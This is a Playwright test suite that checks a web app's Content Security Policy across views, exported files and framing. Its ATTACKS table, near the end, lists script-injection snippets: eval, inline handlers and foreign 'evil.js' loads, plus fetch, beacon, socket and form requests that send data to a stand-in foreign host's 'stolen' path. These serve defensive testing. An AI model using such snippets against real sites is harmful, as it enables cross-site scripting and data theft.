import { expect, type Page, test } from '@playwright/test';
import { serveSite } from '../support/site';
import { atRest, drop, edit, openRun, shows } from './work';

declare global {
  interface Window {
    /** Violations reported by the browser. */
    violations: string[];
    ran: string[];
  }
}

const VIEWS = [
  '#',
  '#/lab/gt/crossover',
  '#/machine/gt/gfixit',
  '#/machine/hp/stale-inbound',
  '#/machine/pools/last-two',
  '#/compare/gt/gfixit',
  '#/report',
  '#/prove',
  '#/glossary',
];

/** A lab whose lesson names a part that its machine lacks. */
const LAB = {
  ...{ busyard: 1, title: 'A lab', summary: 'Stores a word.', system: 'gt', until: '1 ms' },
  ...{ machine: { extends: 'gt-system-a' }, view: { kind: 'machine' } },
  programs: { store: [{ do: 'pio_write', from: '0x100000', to: '0x80000000', bytes: 4 }] },
  workload: { cpu: 'store' },
  lesson: '# A lab\n\n## A store\n\nThe [bridge](part:brigde).\n',
};

const heading = (page: Page) => page.locator('header h1');
const violations = (page: Page) => page.evaluate(() => window.violations);

/** Records policy violations from now on, in every page of the tab. */
const watchPolicy = (page: Page) =>
  page.addInitScript(() => {
    window.violations = [];
    window.ran = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
    });
  });

async function settled(page: Page): Promise<void> {
  await expect(heading(page)).not.toHaveText('Opening');
  await atRest(page);
}

async function openOverlaysAndExport(page: Page): Promise<void> {
  for (const key of ['?', 'Control+k']) {
    await page.keyboard.press(key);
    await expect(page.getByRole('dialog')).toBeVisible();
    await page.keyboard.press('Escape');
  }
  for (const name of ['chart as PNG', 'chart as SVG', 'runs as CSV']) {
    await page.getByRole('button', { name: 'Export', exact: true }).click();
    await page.getByRole('menuitem', { name: `Export the ${name}` }).click();
    const file = new RegExp(`^Saved .*${name.slice(-3).toLowerCase()}`);
    await expect(page.locator('[data-live]')).toHaveText(file);
  }
}

test.describe('the policy', () => {
  test('is kept by every view, by overlays and by exported files', async ({ page }) => {
    await watchPolicy(page);
    await page.goto('./');
    for (const view of VIEWS) {
      await page.evaluate((hash) => {
        location.hash = hash;
      }, view);
      // The report runs every figure anew, and loads nothing meanwhile.
      if (view === '#/report') await expect(page.getByRole('table').first()).toBeVisible();
      else await settled(page);
      if (view.startsWith('#/lab')) await openOverlaysAndExport(page);
      expect(await violations(page), view).toEqual([]);
    }
  });

  test('is kept by the drawings of a machine and its lanes, saved so that they need nothing else', async ({
    page,
    browserName,
  }, info) => {
    test.skip(browserName === 'firefox', 'Its driver does not open files.');
    await watchPolicy(page);
    await page.goto('./#/machine/hp/at-work');
    await settled(page);
    const saveAs = async (drawing: string) => {
      const download = page.waitForEvent('download');
      await page.getByRole('button', { name: 'Export', exact: true }).click();
      await page.getByRole('menuitem', { name: `Save the ${drawing} as SVG` }).click();
      const saved = await download;
      expect(saved.suggestedFilename()).toMatch(/\.svg$/);
      const file = info.outputPath(`${drawing}.svg`);
      await saved.saveAs(file);
      return file;
    };
    const files = [await saveAs('machine'), await saveAs('lanes')];
    expect(await violations(page)).toEqual([]);

    const words = [
      ['CPU 0', 'Memory'],
      ['CPU 0', 'Runway'],
    ];
    for (const [index, file] of files.entries()) {
      await page.goto(`file://${file}`);
      const found = await page.evaluate(async () => {
        await document.fonts.ready;
        const all = [...document.querySelectorAll('*')];
        const values = all.flatMap((one) => [...one.attributes].map(({ value }) => value));
        const used = values.flatMap((value) => /url\("?#([^")]+)/.exec(value)?.[1] ?? []);
        return {
          root: document.documentElement.localName,
          words: [...document.querySelectorAll('text')].map(({ textContent }) => textContent),
          hatched: used.length > 0,
          missing: used.filter((id) => !document.getElementById(id)),
          unresolved: values.filter((value) => value.includes('var(')),
          classes: all.filter((one) => one.hasAttribute('class')).length,
          fonts: [...document.fonts].map(({ status }) => status),
        };
      });
      expect(found).toMatchObject({
        root: 'svg',
        hatched: true,
        missing: [],
        unresolved: [],
        classes: 0,
      });
      expect(found.words).toEqual(expect.arrayContaining(words[index] ?? []));
      expect(found.fonts).toContain('loaded');
    }
  });

  test('of a session saved as one HTML page lets it run from a disk, and be saved again', async ({
    page,
    context,
    browserName,
  }, info) => {
    test.skip(browserName === 'firefox', 'Its driver does not open files.');
    const saveAs = async (from: Page, name: string) => {
      const download = from.waitForEvent('download');
      await from.getByRole('button', { name: 'Export', exact: true }).click();
      await from.getByRole('menuitem', { name: 'Save as one HTML page' }).click();
      const file = info.outputPath(name);
      await (await download).saveAs(file);
      return `file://${file}`;
    };
    await openRun(page);
    await edit(page, '131');
    const first = await saveAs(page, 'first.html');
    await page.close();
    await context.setOffline(true);
    const opened = async (file: string) => {
      const saved = await context.newPage();
      await watchPolicy(saved);
      await saved.goto(file);
      await shows(saved, '131');
      await atRest(saved);
      await expect(saved.getByRole('banner')).toContainText('1 change since preset');
      await expect(saved.getByText(/^state [0-9a-f]{8}/)).toBeVisible();
      expect(await violations(saved)).toEqual([]);
      return saved;
    };
    await opened(await saveAs(await opened(first), 'second.html'));
  });

  test('is kept by the check of a lesson from a file, which names what is broken', async ({
    page,
  }) => {
    await watchPolicy(page);
    await page.goto('./');
    await settled(page);
    await drop(page, 'lab.json', JSON.stringify(LAB));
    const problems = page.locator('#lesson details', { hasText: 'for its author' });
    await problems.locator('summary').click();
    await expect(problems).toContainText('line 5');
    await expect(problems).toContainText('no part "brigde"');
    expect(await violations(page)).toEqual([]);
  });

  test('is sent with every response, and a missing file is not answered with the page', async ({
    request,
  }) => {
    const page = await request.get('./');
    expect(page.headers()['content-security-policy']).toContain("frame-ancestors 'self'");
    expect(await page.text()).toContain('http-equiv="Content-Security-Policy"');
    for (const path of ['./', './theme.js', './assets/gone-01234567.js', './no/such/place']) {
      const answer = await request.get(path);
      expect(answer.status(), path).toBe(/gone|no/.test(path) ? 404 : 200);
      expect(answer.headers()['x-content-type-options'], path).toBe('nosniff');
    }
  });
});

/** What an attacker would try after injecting a line of script. */
const ATTACKS: Record<string, string> = {
  'an inline script': `const script = document.createElement('script');
    script.append("ran.push('inline script')"); document.body.append(script);`,
  'an inline handler': `const image = new Image();
    image.setAttribute('onerror', "ran.push('handler')"); image.src = 'data:,'; document.body.append(image);`,
  eval: `eval("ran.push('eval')");`,
  'a function made of text': `new Function("ran.push('function')")();`,
  'a timer made of text': `setTimeout("ran.push('timer')");`,
  markup: `document.body.insertAdjacentHTML('beforeend', '<b>markup</b>'); ran.push('markup');`,
  'a frame made of text': `const frame = document.createElement('iframe');
    frame.srcdoc = '<b>frame</b>'; document.body.append(frame); ran.push('frame');`,
  'a script of another site': `const script = document.createElement('script');
    script.src = FOREIGN + 'evil.js'; document.body.append(script);`,
  'a script of another site, as a module': `import(FOREIGN + 'evil.js').then(() => ran.push('module'));`,
  'a worker made of text': `new Worker(URL.createObjectURL(new Blob(['1']))); ran.push('worker');`,
  'a request to another site': `fetch(FOREIGN + 'stolen').then(() => ran.push('fetch'));`,
  'a beacon to another site': `navigator.sendBeacon(FOREIGN + 'stolen', 'x');`,
  'a socket to another site': `new WebSocket(FOREIGN.replace('http', 'ws')).onopen = () => ran.push('socket');`,
  'an image of another site': `const image = new Image(); image.src = FOREIGN + 'stolen.png';`,
  'a style of another site': `const link = document.createElement('link');
    link.rel = 'stylesheet'; link.href = FOREIGN + 'stolen.css'; document.head.append(link);`,
  'an inline style': `const style = document.createElement('style');
    style.append('body { background: url(' + FOREIGN + 'stolen.png) }'); document.head.append(style);`,
  'a form sent to another site': `const form = document.createElement('form');
    form.action = FOREIGN + 'stolen'; document.body.append(form); form.submit();`,
  'another base': `const base = document.createElement('base'); base.href = FOREIGN;
    document.head.append(base); if (document.baseURI.startsWith(FOREIGN)) ran.push('base');`,
};

for (const source of ['headers', 'the meta element'] as const) {
  test(`the policy, set by ${source} alone, blocks an attacker`, async ({ page }) => {
    const site = await serveSite({ headers: source === 'headers' });
    const foreign = await serveSite({ headers: false });
    foreign.instead.set('evil.js', "ran.push('foreign script');");
    if (source === 'headers') {
      const built = await (await fetch(site.url)).text();
      site.instead.set('index.html', built.replace(/<meta http-equiv[^>]*>/, ''));
    }
    await watchPolicy(page);
    await page.goto(site.url);
    await settled(page);
    const unnoticed: string[] = [];
    for (const [name, attack] of Object.entries(ATTACKS)) {
      await page.evaluate(() => {
        window.violations = [];
      });
      await page.evaluate(`void setTimeout(() => { const FOREIGN = '${foreign.url}'; ${attack} })`);
      await expect
        .poll(() => violations(page), { message: name })
        .not.toEqual([])
        .catch(() => unnoticed.push(name));
    }
    expect(unnoticed).toEqual([]);
    expect(await page.evaluate(() => window.ran)).toEqual([]);
    expect(foreign.asked).toEqual([]);
    await Promise.all([site.close(), foreign.close()]);
  });
}

test('other sites may not frame the page; its own site may', async ({ page }) => {
  const site = await serveSite();
  const stranger = await serveSite({ headers: false });
  const framing = `<!doctype html><iframe src="${site.url}"></iframe>`;
  site.instead.set('framing.html', framing);
  stranger.instead.set('framing.html', framing);
  // Pages of its own site may contain frames; the page itself may not.
  await page.route(`${site.url}framing.html`, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, headers: { 'content-type': 'text/html' } });
  });
  await page.goto(`${site.url}framing.html`);
  await expect(page.frameLocator('iframe').locator('header h1')).toHaveText('Busyard');
  // The outer page's load event follows that of its frame, which would have fetched the script.
  await page.goto(`${stranger.url}framing.html`, { waitUntil: 'load' });
  const times = (path: string) => site.asked.filter((one) => one === path).length;
  // How often a browser asks for what it then refuses is its own affair.
  expect(times('index.html')).toBeGreaterThanOrEqual(2);
  expect(times('theme.js')).toBe(1);
  await Promise.all([site.close(), stranger.close()]);
});
